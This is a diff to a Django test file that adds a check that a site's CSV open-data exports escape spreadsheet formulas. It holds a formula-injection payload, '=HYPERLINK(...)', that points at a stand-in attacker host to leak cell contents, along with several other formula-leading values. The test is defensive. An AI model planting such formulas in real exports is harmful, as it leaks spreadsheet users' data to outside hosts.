@@ -12,8 +12,8 @@ from django.utils import translation
 
 from cities.models import City, Photo
 
-from .factories import make_city, make_photo, make_program
-from .public_helpers import PUBLIC_PAGES, add_cities, count_queries, load_seed
+from .factories import make_city, make_criterion, make_photo, make_program
+from .public_helpers import PUBLIC_PAGES, add_cities, count_queries
 
 pytestmark = pytest.mark.django_db
 
@@ -21,11 +21,6 @@ SITEMAP_NS = {
     "s": "http://www.sitemaps.org/schemas/sitemap/0.9",
     "xhtml": "http://www.w3.org/1999/xhtml",
 }
-
-
-@pytest.fixture
-def seeded():
-    load_seed()
 
 
 def test_sitemap_lists_public_pages_in_both_languages_with_lastmod(client, seeded):
@@ -149,6 +144,42 @@ class TestOpenData:
         assert criteria[0]["title_es"].startswith("Aprendizaje inclusivo")
         photos = rows("/data/photos.csv")
         assert len(photos) == 4 and {row["licence"] for row in photos} == {"all-rights-reserved"}
+
+    def test_csv_text_cells_cannot_run_as_spreadsheet_formulas(self, client):
+        link = '=HYPERLINK("http://evil.example/?"&A1,"Loja")'
+        city = make_city(
+            name=link,
+            latitude="-0.180650",
+            longitude="-78.46783",
+            population=2011388,
+            population_year=2022,
+        )
+        make_program(city, name="=1+2", start_year=2019)
+        holders = ["+1", "-1", "@SUM(A1)", "\tTab", "\rReturn", "plain"]
+        for holder in holders:
+            make_photo(city=city, holder=holder)
+
+        cities = client.get("/data/cities.csv").content.decode()
+        # Every text cell is quoted, a formula gets its leading quote; numbers stay bare.
+        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Loja"")"' in cities
+        assert ",2011388,2022," in cities and ",-0.18065,-78.46783," in cities
+        row = next(csv.DictReader(io.StringIO(cities)))
+        assert row["name_es"] == row["name_en"] == f"'{link}"
+        assert row["latitude"] == "-0.18065" and row["population"] == "2011388"
+
+        programs = client.get("/data/programs.csv").content.decode()
+        assert next(csv.DictReader(io.StringIO(programs)))["name_en"] == "'=1+2"
+        assert ",2019," in programs
+
+        photos = csv.DictReader(io.StringIO(client.get("/data/photos.csv").content.decode()))
+        written = [row["holder"] for row in photos if row["holder"]]
+        assert sorted(written) == sorted(
+            ["'+1", "'-1", "'@SUM(A1)", "'\tTab", "'\rReturn", "plain"]
+        )
+
+        make_criterion(slug="minus", title="-learning", order=7)
+        criteria = client.get("/data/criteria.csv").content.decode()
+        assert '"minus","building_block",7,"\'-learning","\'-learning"' in criteria
 
     def test_data_files_accept_only_reading(self, client):
         assert client.post("/data/learning-cities.json").status_code == 405
